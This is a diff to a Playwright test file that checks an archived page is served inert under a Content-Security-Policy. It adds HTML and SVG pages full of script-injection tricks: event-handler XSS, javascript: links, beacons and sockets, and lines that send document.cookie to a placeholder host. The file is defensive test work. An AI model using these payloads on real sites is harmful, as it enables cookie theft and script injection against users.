@@ -1,11 +1,13 @@
 """An archived page that tries everything, in a real Chromium."""
 
+import contextlib
 import threading
 from collections.abc import Iterator
 from dataclasses import dataclass, field
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
+import playwright.sync_api
 import pytest
 
 from sources.web.copies import inert_page
@@ -31,8 +33,34 @@ TRICKS = """<!doctype html><html><head><title>Archived</title>
 <image href="{out}/svg-image"/><animate onbegin="document.title='ran'" attributeName="x" dur="1s"/></svg>
 <details open ontoggle="document.title='ran'"><summary>x</summary></details>
 <form id="f" action="{out}/form" method="post"><input autofocus onfocus="document.title='ran'"><button id="go">Go</button></form>
+<script>
+navigator.sendBeacon("{out}/beacon"); new WebSocket("{out}/socket".replace("http", "ws")); new EventSource("{out}/events");
+navigator.serviceWorker.register("{out}/worker.js"); new Worker("{out}/thread.js"); window.open("{out}/popup");
+localStorage.setItem("stolen", document.cookie); location = "{out}/away?" + document.cookie
+</script><base href="{out}/base2/"><link rel="dns-prefetch preconnect" href="{out}"><link rel="modulepreload" href="{out}/early.js">
+<math><mtext><img src=x onerror="document.title='ran'"></mtext></math><marquee onstart="document.title='ran'"></marquee>
+<input type="image" src="{out}/button"><table background="{out}/table"></table><link rel="manifest" href="{out}/manifest">
+<template shadowrootmode="open"><style>:host {{ background: url({out}/shadow) }}</style></template>
 <a id="js" href="javascript:document.title='ran'">link</a><a id="ping" href="#x" ping="{out}/ping">ping</a>
 </body></html>"""
+
+
+DRAWING = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200"
+ onload="document.title='ran'; fetch('{out}/onload?' + document.cookie)"><title>Archived</title>
+<script>document.title = "ran"; fetch("{out}/script?" + document.cookie)</script><script href="{out}/script.js"/>
+<style>@import "{out}/import.css"; rect {{ fill: url({out}/fill#x) }}</style><rect width="9" height="9"/>
+<image href="{out}/image" width="9" height="9"/><use href="{out}/use#x"/><feImage href="{out}/filter"/>
+<animate onbegin="document.title='ran'" attributeName="x" dur="1s"/><set attributeName="onmouseover" to="document.title='ran'"/>
+<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="{out}/frame"></iframe>
+<img src="{out}/html-image" onerror="document.title='ran'"/><form action="{out}/form"><button id="go">Go</button></form>
+</body></foreignObject><a id="js" xlink:href="javascript:document.title='ran'"><text y="150">link</text></a></svg>"""
+
+PIECES = {
+    "all of it": None,
+    "sandbox": "sandbox; ",
+    "everything forbidden by default": "default-src 'none'; ",
+}
+"""What is taken out of the Content-Security-Policy, to see that the test would tell."""
 
 
 @dataclass
@@ -83,8 +111,8 @@ def visit(chromium: Any, site: Site) -> tuple[str, list[str]]:
     page.goto(f"http://127.0.0.1:{site.port}/page", wait_until="load")
     page.wait_for_timeout(300)
     for selector in ("#js", "#ping", "#go"):
-        if page.locator(selector).count():
-            page.locator(selector).click(timeout=2_000, no_wait_after=True)
+        with contextlib.suppress(playwright.sync_api.Error):
+            page.locator(selector).click(timeout=1_000, no_wait_after=True)
     page.wait_for_timeout(500)
     title = page.title()
     page.context.close()
@@ -92,19 +120,48 @@ def visit(chromium: Any, site: Site) -> tuple[str, list[str]]:
 
 
 def test_nothing_runs_and_nothing_reaches_out(chromium: Any, cast: Cast, site: Site) -> None:
-    markup = TRICKS.format(out=f"http://127.0.0.1:{site.port}")
-    response = inert_page(make_copy(make_source(cast.editor), markup))
+    out = f"http://127.0.0.1:{site.port}"
+    response = inert_page(make_copy(make_source(cast.editor), TRICKS.format(out=out)), images_from=f"{out}/replay/x/")
     site.body, site.headers = response.content, dict(response.items())
     title, asked = visit(chromium, site)
     assert (title, asked) == ("Archived", [])
 
 
+def test_a_drawing_does_none_of_it_either(chromium: Any, cast: Cast, site: Site) -> None:
+    out = f"http://127.0.0.1:{site.port}"
+    drawing = DRAWING.format(out=out)
+    response = inert_page(
+        make_copy(make_source(cast.editor), drawing, declared="image/svg+xml"), images_from=f"{out}/replay/x/"
+    )
+    assert response["Content-Type"] == "image/svg+xml"
+    site.body, site.headers = response.content, dict(response.items())
+    title, asked = visit(chromium, site)
+    assert (title, asked) == ("Archived", [])
+    site.headers = {"Content-Type": "image/svg+xml"}
+    title, asked = visit(chromium, site)
+    assert title == "ran" or len(set(asked)) > 3
+
+
+@pytest.mark.parametrize("piece", PIECES.values(), ids=PIECES.keys())
+def test_a_page_without_its_policy_is_found_out(chromium: Any, cast: Cast, site: Site, piece: str | None) -> None:
+    out = f"http://127.0.0.1:{site.port}"
+    response = inert_page(make_copy(make_source(cast.editor), TRICKS.format(out=out)), images_from=f"{out}/replay/x/")
+    site.body, site.headers = response.content, dict(response.items())
+    policy = site.headers.pop("Content-Security-Policy")
+    if piece is not None:
+        assert piece in policy
+        site.headers["Content-Security-Policy"] = policy.replace(piece, "").replace("img-src", "font-src")
+    title, asked = visit(chromium, site)
+    assert title != "Archived" or asked
+
+
 def test_without_the_policy_the_same_page_does_both(chromium: Any, cast: Cast, site: Site) -> None:
-    markup = TRICKS.format(out=f"http://127.0.0.1:{site.port}").replace('<meta http-equiv="refresh"', "<meta")
+    markup = TRICKS.format(out=f"http://127.0.0.1:{site.port}")
+    markup = markup.replace('<meta http-equiv="refresh"', "<meta").replace("location = ", "void ")
     site.body, site.headers = markup.encode(), {"Content-Type": "text/html"}
     page = chromium.new_context().new_page()
     page.goto(f"http://127.0.0.1:{site.port}/page", wait_until="commit")
     page.wait_for_function("document.title === 'ran'")
     page.wait_for_timeout(500)
-    assert len(set(site.asked)) > 10
+    assert len(set(site.asked)) > 15
     page.context.close()
